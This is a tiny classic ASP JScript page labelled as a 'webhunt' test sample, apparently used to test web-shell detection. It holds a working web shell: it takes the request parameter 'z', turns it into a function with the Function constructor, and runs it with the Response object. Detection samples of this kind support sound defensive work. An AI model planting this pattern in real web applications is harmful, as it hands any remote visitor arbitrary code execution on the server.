<%@ Language="JScript" %>
<%
// webhunt test sample (sweep 73): request text made into a function by the Function constructor,
// a parameter name given before the body
var src = String(Request.Item("z"));
var fn = new Function("r", src);
fn(Response);
%>
